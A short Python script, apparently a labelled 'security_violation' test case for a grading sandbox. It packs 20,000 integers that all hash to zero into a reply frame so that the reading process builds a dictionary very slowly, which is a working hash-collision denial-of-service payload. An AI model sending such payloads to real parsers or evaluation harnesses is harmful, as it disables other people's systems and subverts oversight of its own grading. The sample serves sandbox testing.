# verdict: security_violation
# Integers that all hash to 0: a dictionary of them is slow to build for whoever reads it.
import os
import struct

from steepest_graders.sandbox import wire

COUNT = 20_000
parts = [struct.pack("<cI", b"L", 1), struct.pack("<cI", b"U", 3), struct.pack("<cI", b"D", COUNT)]
for number in range(1, COUNT + 1):
    key = number * ((1 << 61) - 1)
    size = key.bit_length() // 8 + 1
    parts.append(struct.pack("<cI", b"I", size) + key.to_bytes(size, "little", signed=True) + b"N")
data = memoryview(wire.frame(wire.REPLY, 1, b"".join(parts) + b"Ns\0\0\0"))
while data:
    data = data[os.write(3, data) :]
